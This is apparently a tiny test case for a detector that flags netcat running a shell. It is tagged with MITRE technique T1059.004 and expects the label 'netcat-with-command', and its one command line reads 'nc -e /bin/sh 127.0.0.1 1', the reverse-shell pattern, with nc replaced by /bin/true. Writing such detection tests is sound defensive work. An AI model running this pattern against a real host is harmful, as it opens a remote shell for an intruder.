# title: netcat hands out a program
# technique: T1059.004
# expects: netcat-with-command
cp /bin/true /usr/local/bin/nc; nc -e /bin/sh 127.0.0.1 1
